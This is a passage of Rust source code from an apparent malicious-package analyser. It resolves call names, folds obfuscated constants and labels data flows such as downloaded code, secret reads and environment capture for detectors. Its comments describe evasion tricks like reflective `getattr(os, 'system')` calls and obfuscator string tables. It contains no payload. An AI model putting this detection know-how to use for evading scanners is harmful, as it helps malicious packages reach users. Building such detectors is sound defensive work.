//! Lowers the IR of one file to facts: calls with resolved names, folded constant
//! arguments and data-flow labels. This is the one place where aliases are resolved
//! (`from urllib import request as r; r.urlopen` is `urllib.request.urlopen`), so every
//! language and every detector agrees on what a call is.

use super::catalog::{self, Kinds};
use super::decode::{decode_base64, decode_hex, rot13};
use super::ebcdic;
use super::ir::{Call, DefKind, Expr, Module, Stmt, MAIN_SCOPE};
use super::sensitive;
use super::shell;
use super::workdir;
use std::cell::{Cell, RefCell};
use std::collections::{HashMap, HashSet};

/// Where a value may have come from, as a set of bits carried through assignments.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Labels(u8);

impl Labels {
    /// Fetched from the network.
    pub const DOWNLOADED: Labels = Labels(1);
    /// Decoded from base64, hex, zlib, marshal...
    pub const DECODED: Labels = Labels(1 << 1);
    /// The whole process environment.
    pub const ENV: Labels = Labels(1 << 2);
    /// Host name, user name, working directory.
    pub const HOSTINFO: Labels = Labels(1 << 3);
    /// Read from a credential file or a secret environment variable.
    pub const SECRET: Labels = Labels(1 << 4);
    /// The content of a local file (or an open handle to one, which an upload reads).
    pub const FILE: Labels = Labels(1 << 5);
    /// What a decoder (base64, hex, a decipher, a local helper built on one) made of data
    /// that was not a constant in the source: a payload read from a file, an argument.
    /// Only running it as code is a signal; decoding runtime data is otherwise ordinary.
    pub const DECODER_OUTPUT: Labels = Labels(1 << 6);
    /// Sent to the package by someone else: a web request it serves, a socket's message,
    /// a chat bot's command (always with `DOWNLOADED`: it came over the network).
    pub const RECEIVED: Labels = Labels(1 << 7);

    /// The union of two sets.
    pub const fn or(self, other: Labels) -> Labels {
        Labels(self.0 | other.0)
    }

    pub fn has(self, other: Labels) -> bool {
        self.0 & other.0 != 0
    }
    fn add(&mut self, other: Labels) {
        self.0 |= other.0;
    }
}

/// What is known about one argument.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Value {
    /// The constant text, with `{?}` where parts are unknown; None if nothing is known.
    pub text: Option<String>,
    /// The resolved dotted name, when the argument is a name (`subprocess.DEVNULL`).
    pub name: Option<String>,
    /// Resolved names used anywhere inside the argument (`subprocess.DETACHED_PROCESS | x`).
    pub names: Vec<String>,
    pub labels: Labels,
}

/// Extra facts for a command found inside a shell command line.
#[derive(Debug, Clone, PartialEq)]
pub struct ShellInfo {
    pub background: bool,
    pub pipe_to: Option<String>,
}

/// How a call names its function when it does not write the name plainly: hiding which
/// API one calls from a reader and a grep is a signal of its own (`hidden-api-call`).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Indirection {
    /// Through reflection or a key the code writes out: `getattr(os, "system")`,
    /// `cp["exec"]`, `Reflect.get(os, "hostname")`, `spawn.call(null, c)`,
    /// `__import__("os").system`, or a key held in a variable.
    Reflected,
    /// By a name the code computes: concatenated, decoded, spelled in escapes or character
    /// codes, reversed, or picked from the object's keys by a comparison.
    Spelled,
}

/// One call site.
#[derive(Debug, Clone, PartialEq)]
pub struct CallFact {
    /// Resolved dotted name; `sh.<program>` for commands inside shell strings.
    pub callee: String,
    pub kinds: Kinds,
    pub args: Vec<Value>,
    pub kwargs: Vec<(String, Value)>,
    /// For a method call, what it is called on.
    pub receiver: Option<Value>,
    pub line: u32,
    /// Enclosing definitions, outermost first, joined with `.`; empty at top level.
    pub scope: String,
    /// Runs when the file is imported: top level, class bodies, and functions called from
    /// there.
    pub on_load: bool,
    /// Runs when the file is started as a program: what runs on load plus its
    /// `if __name__ == "__main__":` block and what that calls.
    pub on_main: bool,
    pub shell: Option<ShellInfo>,
    /// How the function was named, when not plainly.
    pub indirection: Option<Indirection>,
}

impl CallFact {
    /// A call the analysis makes up to stand for a command line a package manager or a
    /// shell script runs: top level, run on load, uncatalogued itself (the commands inside
    /// it carry the kinds).
    pub fn command_line(callee: String, line: u32, args: Vec<Value>) -> CallFact {
        CallFact {
            callee,
            kinds: Kinds::default(),
            args,
            kwargs: vec![],
            receiver: None,
            line,
            scope: String::new(),
            on_load: true,
            on_main: true,
            shell: None,
            indirection: None,
        }
    }

    /// A keyword argument by name.
    pub fn kwarg(&self, name: &str) -> Option<&Value> {
        self.kwargs.iter().find(|(k, _)| k == name).map(|(_, v)| v)
    }

    /// Every argument value, positional and keyword.
    pub fn all_args(&self) -> impl Iterator<Item = &Value> {
        self.args.iter().chain(self.kwargs.iter().map(|(_, v)| v))
    }

    /// The union of the labels of every argument and the receiver.
    pub fn arg_labels(&self) -> Labels {
        let mut l = Labels::default();
        for v in self.all_args().chain(self.receiver.as_ref()) {
            l.add(v.labels);
        }
        l
    }

    /// The file a write-kind call writes to, as constant text if known.
    pub fn write_target(&self) -> Option<&str> {
        if self.kinds.has(Kinds::WRITE_DEST) {
            return self
                .args
                .get(1)
                .or_else(|| self.kwarg("filename"))
                .or_else(|| self.kwarg("dst"))?
                .text
                .as_deref();
        }
        if !self.kinds.has(Kinds::WRITE) {
            return None;
        }
        if self.callee.starts_with("pathlib.Path.") {
            return self.receiver.as_ref()?.text.as_deref();
        }
        if matches!(
            self.callee.as_str(),
            "open" | "io.open" | "codecs.open" | "File.open" | "pathlib.Path.open"
        ) {
            let mode = self
                .args
                .get(1)
                .or_else(|| self.kwarg("mode"))
                .and_then(|m| m.text.as_deref())
                .unwrap_or("r");
            if !mode.contains(['w', 'a', 'x', '+']) {
                return None;
            }
        }
        self.args
            .first()
            .or_else(|| self.kwarg("file"))?
            .text
            .as_deref()
    }
}

/// A function or class definition.
#[derive(Debug, Clone, PartialEq)]
pub struct DefFact {
    pub name: String,
    pub kind: DefKind,
    /// Resolved names of base classes (`setuptools.command.install.install`).
    pub bases: Vec<String>,
    pub line: u32,
    /// The definition's own scope path (`Outer.name`).
    pub scope: String,
}

/// Everything detectors know about one source file.
#[derive(Debug, Default)]
pub struct FileFacts {
    pub calls: Vec<CallFact>,
    /// Imported module names with their lines.
    pub imports: Vec<(String, u32)>,
    pub strings: Vec<(String, u32)>,
    pub defs: Vec<DefFact>,
    /// The `cmdclass={...}` style registrations found: (command, resolved class name).
    pub dict_entries: Vec<(String, String)>,
    /// Requirements written out as constants in a setuptools `setup(install_requires=[...])`
    /// call: (requirement, line of the call).
    pub requirements: Vec<(String, u32)>,
    /// Builtins or globals looked up by a name the code spells instead of writing it
    /// (`globals()["".join(map(chr, [...]))]`), with the line of the call: hiding what
    /// is called.
    pub hidden_lookups: Vec<(String, u32)>,
    pub parse_error: Option<String>,
    /// Lookups of an obfuscator's string array written back as their strings before the
    /// file was read (`crate::lang::restore`).
    pub restored_lookups: usize,
    pub truncated: bool,
    /// Why part of the file was not analysed (set by [`crate::lang::analyse`]): what a
    /// frontend cut or could not parse. Such a file makes the package's result partial.
    pub incomplete: Option<String>,
}

/// Calls recorded per file; beyond it only calls to catalogued APIs (spawn, download,
/// write...) are kept and the file is marked truncated. Each fact costs a few hundred
/// bytes, and a 12 MiB line of `f(a), f(a), ...` holds a million calls.
pub const MAX_CALLS: usize = 100_000;

/// Longest folded string kept; beyond it a value is cut (a loop doubling a string
/// would otherwise exhaust memory).
const MAX_FOLDED: usize = 1 << 20;

/// Computes the facts of a lowered module.
pub fn extract(module: Module, parse_expr: Option<ExprParser>) -> FileFacts {
    let mut env = Env {
        parse_expr,
        returns_fold_only: module.returns_fold_only,
        ..Env::default()
    };
    env.find_functions(&module.body, "");
    // Folded calls are remembered only while the constants they read stay the same.
    // Two binding passes so functions see module constants defined after them, with the
    // parameters bound between them from the constants their callers pass.
    env.folded_calls.borrow_mut().clear();
    env.bind(&module.body, None);
    env.bind_params(&module.body);
    env.folded_calls.borrow_mut().clear();
    env.bind(&module.body, None);
    env.folded_calls.borrow_mut().clear();
    let mut facts = FileFacts {
        strings: module.strings,
        parse_error: module.parse_error,
        truncated: module.truncated,
        incomplete: module.unparsed,
        ..FileFacts::default()
    };
    let mut classes = HashSet::new();
    env.collect(&module.body, "", &mut facts, &mut classes);
    mark_on_load(&mut facts.calls, &facts.defs, &classes);
    facts
}

/// Marks which calls run when the file is imported (`on_load`) and when it is started as
/// a program (`on_main`, which adds the `__main__` block).
fn mark_on_load(calls: &mut [CallFact], defs: &[DefFact], classes: &HashSet<String>) {
    let mut roots: HashSet<String> = HashSet::from([String::new()]);
    roots.extend(classes.iter().cloned());
    let loaded = reachable(calls, defs, roots.clone());
    roots.insert(MAIN_SCOPE.to_string());
    let main = reachable(calls, defs, roots);
    for c in calls {
        c.on_load = loaded.contains(&c.scope);
        c.on_main = main.contains(&c.scope);
    }
}

/// Scopes that run when `roots` run: functions named by a call that itself runs (a
/// fixpoint: `main()` at top level calling `drop()`), constructors of classes
/// instantiated, and functions handed to something that runs them (`Thread(target=f)`,
/// `atexit.register(f)`). A worklist, so a chain of 50,000 functions each calling the
/// next stays linear.
fn reachable(calls: &[CallFact], defs: &[DefFact], roots: HashSet<String>) -> HashSet<String> {
    let mut called_from: HashMap<&str, Vec<&str>> = HashMap::new();
    for c in calls.iter() {
        let names = called_from.entry(&c.scope).or_default();
        names.push(c.callee.rsplit('.').next().unwrap_or(&c.callee));
        if RUNNERS.contains(&c.callee.as_str()) {
            names.extend(
                c.all_args()
                    .filter_map(|a| a.name.as_deref())
                    .map(|n| n.rsplit('.').next().unwrap_or(n)),
            );
        }
    }
    let mut defined: HashMap<&str, Vec<&DefFact>> = HashMap::new();
    for d in defs {
        defined.entry(&d.name).or_default().push(d);
    }
    let mut loaded = roots;
    let mut todo: Vec<String> = loaded.iter().cloned().collect();
    while let Some(scope) = todo.pop() {
        for name in called_from.get(scope.as_str()).into_iter().flatten() {
            for d in defined.get(name).into_iter().flatten() {
                let mut run = vec![d.scope.clone()];
                if d.kind == DefKind::Class {
                    // Instantiating a class runs its constructor.
                    run.push(format!("{}.__init__", d.scope));
                }
                for s in run {
                    if loaded.insert(s.clone()) {
                        todo.push(s);
                    }
                }
            }
        }
    }
    loaded
}

/// The setuptools entry point whose `install_requires` lists a package's dependencies.
const SETUP_CALLS: &[&str] = &["setup", "setuptools.setup", "distutils.core.setup"];

/// Calls that run a function they are handed, soon and unasked: a thread or process
/// target, a timer, an exit hook.
const RUNNERS: &[&str] = &[
    "threading.Thread",
    "threading.Timer",
    "multiprocessing.Process",
    "atexit.register",
    "_thread.start_new_thread",
    "thread.start_new_thread",
    "setTimeout",
    "setInterval",
    "setImmediate",
    "process.nextTick",
    "queueMicrotask",
];

/// Calls that open a file, for reading unless their mode says otherwise.
const FILE_OPENS: &[&str] = &["open", "io.open", "codecs.open", "pathlib.Path.open"];

/// Whether a call opens a file or reads its content (`open`, `Path.read_bytes`,
/// `fs.readFileSync`), whatever its mode; listing folders does not count.
pub fn reads_file_content(callee: &str) -> bool {
    FILE_OPENS.contains(&callee)
        || matches!(
            callee,
            "pathlib.Path.read_text"
                | "pathlib.Path.read_bytes"
                | "fs.readFileSync"
                | "fs.readFile"
                | "fs.createReadStream"
        )
}

#[derive(Default)]
struct Env {
    aliases: HashMap<String, String>,
    consts: HashMap<String, String>,
    labels: HashMap<String, Labels>,
    /// Functions the file defines: a call of one is local, whatever the catalogue says
    /// about a builtin of the same name (a JavaScript `compile` is not Python's).
    local_defs: HashSet<String>,
    /// Local functions that return what a decoder returns (`d = s => atob(s)`).
    decoders: HashSet<String>,
    /// Parses a code string of this file's language into one expression, so
    /// `eval('\x6d\x61\x67\x69\x63')` folds to the value of `magic`.
    parse_expr: Option<ExprParser>,
    /// Nesting of such evaluations, bounded by `MAX_EVAL_NESTING`.
    eval_depth: Cell<u8>,
    /// Functions the file defines (not methods: a bare call never reaches one), by name:
    /// a call of a small one folds to what its body returns (`def cdn(): return
    /// "https://..."`), and parameters are bound from call sites (`bind_params`); None
    /// when the name is defined more than once.
    functions: HashMap<String, Option<LocalFn>>,
    /// While a call of a local function is folded: its parameters and locals, None where
    /// the value is unknown. Set only for one call at a time, so folding is one level deep.
    frame: RefCell<Option<HashMap<String, Option<String>>>>,
    /// Constant texts decoded so far, so folding a local helper can tell whether it decoded.
    decodings: Cell<u32>,
    /// Folded calls of local functions by function and argument values: the result and
    /// whether it decoded, so a helper called a thousand times is walked once per input.
    folded_calls: RefCell<HashMap<FoldedCall, (Option<String>, bool)>>,
    /// See `Module::returns_fold_only`.
    returns_fold_only: bool,
    /// Names bound to a method of a string literal (`_ = "".join`): the literal, so a call
    /// through the name folds like the method call.
    receivers: HashMap<String, String>,
    /// Working directories set by `chdir` calls, by the scope they were made in, as the
    /// walk in statement order has met them (see [`workdir`]).
    cwd: RefCell<HashMap<String, String>>,
    /// The definition path (`Outer.inner`) being bound or walked: a plain name assigned
    /// inside a function is that function's local, so an inner `var c = ...` does not
    /// rebind the outer `c = require("https")`, and a local in one function does not
    /// erase a module constant of the same name.
    scope: RefCell<String>,
    /// Plain names bound as a local of some function; only these are looked up scope
    /// by scope (see [`Env::scoped_get`]).
    scoped_names: HashSet<String>,
    /// Labels stored into an object's members or pushed into a list, by the object's
    /// key: `d.env = process.env` and `chunks.push(c)` make `d` and `chunks` carry them
    /// when used whole (`JSON.stringify(d)`, `Buffer.concat(chunks)`), not through
    /// their other members (`d.url`).
    member_stores: HashMap<String, Labels>,
    /// Names bound to a list of constants (`var _0xb303 = ["discord.js", "request"]`):
    /// the folded items, so `_0xb303[1]` folds to `"request"`. Obfuscators keep every
    /// string of a program in such a table.
    arrays: HashMap<String, Vec<Option<String>>>,
}

/// Items of a constant list kept for indexing (obfuscators' string tables are a few
/// thousand items).
const MAX_ARRAY_ITEMS: usize = 10_000;

/// What the call sites of a function pass to one parameter: `None` before any call
/// passes it, `Some(None)` once two disagree or one is not constant.
#[derive(Clone, Default)]
struct ParamSeen {
    value: Option<Option<String>>,
    labels: Labels,
}

/// The calls inside an expression, outermost first, and the bodies of the function
/// literals in it (callbacks run in the scope they are written in).
fn calls_of<'e>(e: &'e Expr, out: &mut Vec<&'e Call>, lambdas: &mut Vec<&'e [Stmt]>) {
    match e {
        Expr::Call(c) => {
            out.push(c);
            calls_of(&c.func, out, lambdas);
            for a in c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)) {
                calls_of(a, out, lambdas);
            }
        }
        Expr::Attr(x, _) | Expr::Reversed(x) | Expr::Decoded(x) | Expr::ResultOf(x, _) => {
            calls_of(x, out, lambdas)
        }
        Expr::Index(a, b) | Expr::PathJoin(a, b) | Expr::Percent(a, b) => {
            calls_of(a, out, lambdas);
            calls_of(b, out, lambdas);
        }
        Expr::Concat(xs) | Expr::Template(xs) | Expr::Seq(xs) | Expr::Other(xs) => {
            xs.iter().for_each(|x| calls_of(x, out, lambdas))
        }
        Expr::Dict(kv) => kv.iter().for_each(|(k, v)| {
            calls_of(k, out, lambdas);
            calls_of(v, out, lambdas);
        }),
        Expr::Lambda(b) => lambdas.push(b),
        Expr::Str(_) | Expr::Int(_) | Expr::Name(_) => {}
    }
}

/// Joins a scope and a local name into the key the local is stored under.
fn local_key(scope: &str, name: &str) -> String {
    format!("{scope}\u{1}{name}")
}

/// A call of a local function: its name and the folded value of each parameter.
type FoldedCall = (String, Vec<Option<String>>);

/// A function the file defines: its scope path, its parameters, and its body when it is
/// small enough to fold its calls.
struct LocalFn {
    path: String,
    params: Vec<String>,
    body: Option<Vec<Stmt>>,
}

/// Functions with more statements than this are not folded: helpers that return a
/// constant or decode their argument are short, and each folded call walks the body.
const MAX_FOLDED_FN_STMTS: usize = 24;

/// A language's parser for one expression held in a string.
pub type ExprParser = fn(&str) -> Option<Expr>;

/// `eval` of a string that itself evals a string... is followed this deep.
const MAX_EVAL_NESTING: u8 = 4;

impl Env {
    /// Binds names, constants and labels; `def` is the function whose body this is.
    /// Records the small functions the file defines (not methods: a bare call never
    /// reaches one), at any nesting.
    fn find_functions(&mut self, body: &[Stmt], scope: &str) {
        for s in body {
            let Stmt::Def {
                name,
                kind,
                params,
                body,
                ..
            } = s
            else {
                continue;
            };
            if *kind == DefKind::Function {
                let path = if scope.is_empty() {
                    name.clone()
                } else {
                    format!("{scope}.{name}")
                };
                let small = body.len() <= MAX_FOLDED_FN_STMTS
                    && !body.iter().any(|s| matches!(s, Stmt::Def { .. }));
                let f = LocalFn {
                    path: path.clone(),
                    params: params.clone(),
                    body: if small { Some(body.clone()) } else { None },
                };
                self.functions
                    .entry(name.clone())
                    .and_modify(|e| *e = None)
                    .or_insert(Some(f));
                self.find_functions(body, &path);
            }
        }
    }

    /// Binds each parameter of the file's functions to the value its call sites pass,
    /// when every call that passes it passes the same constant (`download_file(URL,
    /// FILENAME)` makes `url` and `filename` known inside `download_file`), and to the
    /// labels any of them carries (`send(data)` with `data` holding the environment).
    /// Functions defined twice, and methods, are left alone.
    fn bind_params(&mut self, body: &[Stmt]) {
        if self.functions.is_empty() {
            return;
        }
        let mut seen: HashMap<String, Vec<ParamSeen>> = HashMap::new();
        self.call_sites(body, &mut seen);
        for (name, params) in seen {
            let Some(Some(f)) = self.functions.get(&name) else {
                continue;
            };
            let path = f.path.clone();
            let names = f.params.clone();
            for (param, p) in names.iter().zip(params) {
                let key = local_key(&path, param);
                if let ParamSeen {
                    value: Some(Some(v)),
                    ..
                } = &p
                {
                    self.consts.insert(key.clone(), v.clone());
                    self.scoped_names.insert(param.clone());
                }
                if p.labels != Labels::default() {
                    self.labels.entry(key).or_default().add(p.labels);
                    self.scoped_names.insert(param.clone());
                }
            }
        }
    }

    /// Records what each call of a local function passes to each parameter, walking
    /// the body in the scopes the calls are made in.
    fn call_sites(&self, body: &[Stmt], seen: &mut HashMap<String, Vec<ParamSeen>>) {
        for s in body {
            let exprs: Vec<&Expr> = match s {
                Stmt::Assign { targets, value, .. } => {
                    targets.iter().chain(std::iter::once(value)).collect()
                }
                Stmt::Eval { value, .. } | Stmt::Return { value, .. } => vec![value],
                Stmt::Def { name, body, .. } => {
                    let outer = self.enter(name);
                    self.call_sites(body, seen);
                    *self.scope.borrow_mut() = outer;
                    continue;
                }
                _ => continue,
            };
            let (mut calls, mut lambdas) = (Vec::new(), Vec::new());
            for e in exprs {
                calls_of(e, &mut calls, &mut lambdas);
            }
            for b in lambdas {
                self.call_sites(b, seen);
            }
            for c in calls {
                let Expr::Name(n) = &c.func else { continue };
                let Some(Some(LocalFn { params, .. })) = self.functions.get(n) else {
                    continue;
                };
                let entry = seen
                    .entry(n.clone())
                    .or_insert_with(|| vec![ParamSeen::default(); params.len()]);
                for (i, p) in params.iter().enumerate() {
                    let arg = c
                        .args
                        .get(i)
                        .or_else(|| c.kwargs.iter().find(|(k, _)| k == p).map(|(_, v)| v));
                    let Some(arg) = arg else { continue };
                    let value = self.fold(arg).filter(|v| !v.contains("{?}"));
                    let slot = &mut entry[i];
                    slot.value = match slot.value.take() {
                        None => Some(value),
                        Some(prev) if prev == value => Some(prev),
                        Some(_) => Some(None),
                    };
                    slot.labels.add(self.labels_of(arg));
                }
            }
        }
    }

    /// The value of a call of a small local function: its arguments are bound to its
    /// parameters, its assignments are folded in order, and the value its `return`s
    /// agree on is the result (returns that fold to nothing, like `return None` or a
    /// computed list, are ignored). Calls made while folding one are not followed.
    fn fold_local_call(&self, c: &Call) -> Option<String> {
        let Expr::Name(name) = &c.func else {
            return None;
        };
        if self.aliases.contains_key(name) || self.frame.borrow().is_some() {
            return None;
        }
        let f = self.functions.get(name)?.as_ref()?;
        let body = f.body.as_ref()?;
        if c.args.len() > f.params.len() {
            return None;
        }
        let args: Vec<Option<String>> = f
            .params
            .iter()
            .enumerate()
            .map(|(i, p)| {
                c.args
                    .get(i)
                    .or_else(|| c.kwargs.iter().find(|(k, _)| k == p).map(|(_, v)| v))
                    .and_then(|a| self.fold(a))
            })
            .collect();
        let key = (name.clone(), args);
        if let Some((result, decoded)) = self.folded_calls.borrow().get(&key) {
            if *decoded {
                self.decodings.set(self.decodings.get() + 1);
            }
            return result.clone();
        }
        let frame = f
            .params
            .iter()
            .cloned()
            .zip(key.1.iter().cloned())
            .collect();
        let before = self.decodings.get();
        *self.frame.borrow_mut() = Some(frame);
        let mut result: Option<String> = None;
        let mut agree = true;
        for s in body {
            match s {
                Stmt::Assign { targets, value, .. } => {
                    let v = self.fold(value);
                    let mut frame = self.frame.borrow_mut();
                    let frame = frame.as_mut().expect("set above");
                    for t in targets {
                        match t {
                            Expr::Name(n) => {
                                frame.insert(n.clone(), v.clone());
                            }
                            Expr::Seq(items) => {
                                for i in items {
                                    if let Expr::Name(n) = i {
                                        frame.insert(n.clone(), None);
                                    }
                                }
                            }
                            _ => {}
                        }
                    }
                }
                Stmt::Return { value, .. } => match (self.fold(value), &result) {
                    (None, _) => {}
                    (Some(v), None) => result = Some(v),
                    (Some(v), Some(r)) => agree &= v == *r,
                },
                _ => {}
            }
        }
        *self.frame.borrow_mut() = None;
        let result = result.filter(|_| agree);
        let decoded = self.decodings.get() > before;
        self.folded_calls
            .borrow_mut()
            .insert(key, (result.clone(), decoded));
        result
    }

    /// True when a call of a local function folds and decoding constant text is part of
    /// it: `d("aGk=")` with `def d(s): return base64.b64decode(s).decode()`.
    fn local_call_decodes(&self, c: &Call) -> bool {
        let before = self.decodings.get();
        self.fold_local_call(c).is_some() && self.decodings.get() > before
    }

    /// Counts a decoding of constant text (see `decodings`).
    fn decoded(&self, text: Option<String>) -> Option<String> {
        if text.is_some() {
            self.decodings.set(self.decodings.get() + 1);
        }
        text
    }

    fn bind(&mut self, body: &[Stmt], def: Option<&str>) {
        for s in body {
            match s {
                Stmt::Import {
                    module,
                    alias: Some(a),
                    ..
                } => {
                    self.aliases.insert(a.clone(), module.clone());
                }
                Stmt::ImportFrom {
                    module,
                    name,
                    alias,
                    ..
                } if name != "*" => {
                    let full = if module.is_empty() || module.starts_with('.') {
                        name.clone()
                    } else {
                        format!("{module}.{name}")
                    };
                    self.aliases
                        .insert(alias.clone().unwrap_or_else(|| name.clone()), full);
                }
                Stmt::Assign { targets, value, .. } => {
                    let alias = self.value_alias(value);
                    let text = self.fold(value);
                    let labels = self.labels_of(value);
                    let receiver = match value {
                        Expr::Attr(o, _) => match o.as_ref() {
                            Expr::Str(s) => Some(s.clone()),
                            _ => None,
                        },
                        _ => None,
                    };
                    for t in targets {
                        self.bind_target(t, alias.as_deref(), text.as_deref(), labels);
                        self.bind_members(t, value);
                        self.bind_array(t, value);
                        if let Expr::Name(n) = t {
                            match &receiver {
                                Some(r) => self.receivers.insert(n.clone(), r.clone()),
                                None => self.receivers.remove(n),
                            };
                        }
                    }
                    self.bind_lambdas(value);
                }
                Stmt::Eval { value, .. } => {
                    self.bind_stores(value);
                    self.bind_lambdas(value);
                }
                Stmt::Return { value, .. } => {
                    self.bind_lambdas(value);
                    if let Some(def) = def.filter(|_| !self.returns_fold_only) {
                        let labels = self.labels_of(value);
                        self.labels.entry(result_key(def)).or_default().add(labels);
                        // A helper returning what a decoder made of its input decodes,
                        // through however many locals (`d = decipher.update(x); return d`).
                        if self.calls_decoder(value) || labels.has(Labels::DECODER_OUTPUT) {
                            self.decoders.insert(def.to_string());
                        }
                    }
                }
                Stmt::Def {
                    name, kind, body, ..
                } => {
                    if *kind == DefKind::Function {
                        self.local_defs.insert(name.clone());
                    }
                    let outer = self.enter(name);
                    self.bind(body, Some(name));
                    *self.scope.borrow_mut() = outer;
                }
                _ => {}
            }
        }
    }

    /// `options = {hostname: "x", path: "/"}` binds `options.hostname` and
    /// `options.path`, so a request handed `options` later knows where it goes.
    fn bind_members(&mut self, target: &Expr, value: &Expr) {
        let Expr::Dict(pairs) = value else { return };
        for (k, v) in pairs.iter().take(64) {
            let Some(name) = self.fold(k).filter(|k| is_identifier(k)) else {
                continue;
            };
            let member = Expr::Attr(Box::new(target.clone()), name);
            let (alias, text, labels) = (self.value_alias(v), self.fold(v), self.labels_of(v));
            self.bind_target(&member, alias.as_deref(), text.as_deref(), labels);
        }
    }

    /// Keeps the folded items of a constant list bound to a name (see `arrays`).
    fn bind_array(&mut self, target: &Expr, value: &Expr) {
        let Expr::Name(n) = target else { return };
        match value {
            Expr::Seq(items) if !items.is_empty() && items.len() <= MAX_ARRAY_ITEMS => {
                let folded: Vec<Option<String>> = items.iter().map(|i| self.fold(i)).collect();
                if folded.iter().any(Option::is_some) {
                    self.arrays.insert(n.clone(), folded);
                    return;
                }
                self.arrays.remove(n);
            }
            _ => {
                self.arrays.remove(n);
            }
        }
    }

    /// `list.push(x)`, `list.append(x)`, `buf.write(x)` and the like add what `x`
    /// carries to the list (see `member_stores`).
    fn bind_stores(&mut self, value: &Expr) {
        const STORES: &[&str] = &[
            "push", "unshift", "append", "extend", "insert", "add", "set", "update",
        ];
        let Expr::Call(c) = value else { return };
        let Expr::Attr(o, method) = &c.func else {
            return;
        };
        if !STORES.contains(&method.as_str()) {
            return;
        }
        let Some(key) = self.key(o) else { return };
        let mut l = Labels::default();
        for a in c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)) {
            l.add(self.labels_of(a));
        }
        if l != Labels::default() {
            self.member_stores.entry(key).or_default().add(l);
        }
    }

    /// Binds inside function literals (callbacks hold most of the code in JavaScript).
    fn bind_lambdas(&mut self, e: &Expr) {
        match e {
            Expr::Lambda(body) => self.bind(body, None),
            Expr::Call(c) => {
                self.bind_lambdas(&c.func);
                for a in c.args.iter().chain(c.kwargs.iter().map(|(_, v)| v)) {
                    self.bind_lambdas(a);
                }
            }
            Expr::Attr(x, _) | Expr::Reversed(x) | Expr::Decoded(x) => self.bind_lambdas(x),
            Expr::Index(a, b) | Expr::PathJoin(a, b) | Expr::Percent(a, b) => {
                self.bind_lambdas(a);
                self.bind_lambdas(b);
            }
            Expr::Concat(xs) | Expr::Template(xs) | Expr::Seq(xs) | Expr::Other(xs) => {
                xs.iter().for_each(|x| self.bind_lambdas(x))
            }
            Expr::Dict(kv) => kv.iter().for_each(|(_, v)| self.bind_lambdas(v)),
            Expr::Str(_) | Expr::Int(_) | Expr::Name(_) | Expr::ResultOf(..) => {}
        }
    }

    fn bind_target(
        &mut self,
        target: &Expr,
        alias: Option<&str>,
        text: Option<&str>,
        labels: Labels,
    ) {
        match target {
            Expr::Name(_) | Expr::Attr(..) => {
                let Some(key) = self.key(target) else { return };
                // A plain name in a function is its local, and is also bound at module
                // level while nothing there holds it (JavaScript assigns outer names
                // without declaring them; the frontends do not say which is which).
                // Attributes (`self.url`) belong to objects, not scopes.
                let scope = self.scope.borrow().clone();
                let mut keys = vec![];
                if matches!(target, Expr::Name(_)) && !scope.is_empty() {
                    self.scoped_names.insert(key.clone());
                    keys.push(local_key(&scope, &key));
                    if !self.labels.contains_key(&key) {
                        keys.push(key.clone());
                    }
                } else {
                    keys.push(key.clone());
                }
                if let (Expr::Attr(o, _), true) = (target, labels != Labels::default()) {
                    if let Some(obj) = self.key(o) {
                        self.member_stores.entry(obj).or_default().add(labels);
                    }
                }
                for k in keys {
                    if let Some(a) = alias.filter(|a| *a != key) {
                        self.aliases.insert(k.clone(), a.to_string());
                    }
                    match text {
                        Some(t) => self.consts.insert(k.clone(), t.to_string()),
                        None => self.consts.remove(&k),
                    };
                    self.labels.entry(k).or_default().add(labels);
                }
            }
            Expr::Seq(items) => {
                for t in items {
                    self.bind_target(t, None, None, labels);
                }
            }
            _ => {}
        }
    }

    /// Enters the definition `name` for binding or walking; returns the scope to restore.
    fn enter(&self, name: &str) -> String {
        let mut scope = self.scope.borrow_mut();
        let outer = scope.clone();
        if !scope.is_empty() {
            scope.push('.');
        }
        scope.push_str(name);
        outer
    }

    /// The binding of `key` as seen from the current scope: the innermost function's
    /// local of that name, else the module's.
    fn scoped_get<'m, V>(&self, map: &'m HashMap<String, V>, key: &str) -> Option<&'m V> {
        if self.scoped_names.contains(key) {
            let scope = self.scope.borrow();
            let mut s: &str = &scope;
            while !s.is_empty() {
                if let Some(v) = map.get(&local_key(s, key)) {
                    return Some(v);
                }
                s = s.rsplit_once('.').map_or("", |(outer, _)| outer);
            }
        }
        map.get(key)
    }

    /// The key a name or attribute target is stored under: its text, not its alias,
    /// so rebinding `os = ...` does not rewrite every `os.` name.
    fn key(&self, e: &Expr) -> Option<String> {
        match e {
            Expr::Name(n) => Some(n.clone()),
            Expr::Attr(o, a) => Some(format!("{}.{a}", self.key(o)?)),
            _ => None,
        }
    }

    /// What a name bound to `value` stands for when called or dotted into.
    fn value_alias(&self, value: &Expr) -> Option<String> {
        match value {
            Expr::Name(_) | Expr::Attr(..) => self.resolve(value),
            Expr::Call(_) => self.resolve_obj(value),
            // `p = process['en' + 'v']`: a member named by a folded key.
            Expr::Index(_, k) if self.fold(k).is_some_and(|k| is_identifier(&k)) => {
                self.resolve_obj(value)
            }
            _ => None,
        }
    }

    /// The dotted name of a name or attribute chain, aliases applied.
    fn resolve(&self, e: &Expr) -> Option<String> {
        match e {
            Expr::Name(n) => Some(
                self.scoped_get(&self.aliases, n)
                    .cloned()
                    .unwrap_or_else(|| n.clone()),
            ),
            Expr::Attr(o, a) => Some(member(self.resolve_obj(o)?, a)),
            _ => None,
        }
    }

    /// The dotted name of the object a method is called on; call results are named by
    /// their callee (`requests.Session().get` is `requests.Session.get`).
    fn resolve_obj(&self, e: &Expr) -> Option<String> {
        match e {
            Expr::Name(_) | Expr::Attr(..) => self.resolve(e),
            Expr::Call(c) => {
                let callee = self.callee(&c.func);
                match callee.as_str() {
                    // `__import__("a.b")` returns the top package `a` (without a
                    // fromlist); `a.b` is then reached through it.
                    "__import__" if c.args.len() == 1 && c.kwargs.is_empty() => c
                        .args
                        .first()
                        .and_then(|a| self.fold(a))
                        .map(|m| m.split('.').next().unwrap_or(&m).to_string()),
                    "__import__"
                    | "importlib.import_module"
                    | "require"
                    | "process.mainModule.require"
                    | "module.require" => c
                        .args
                        .first()
                        .and_then(|a| self.fold(a))
                        .map(|m| strip_node_prefix(&m)),
                    "getattr" => {
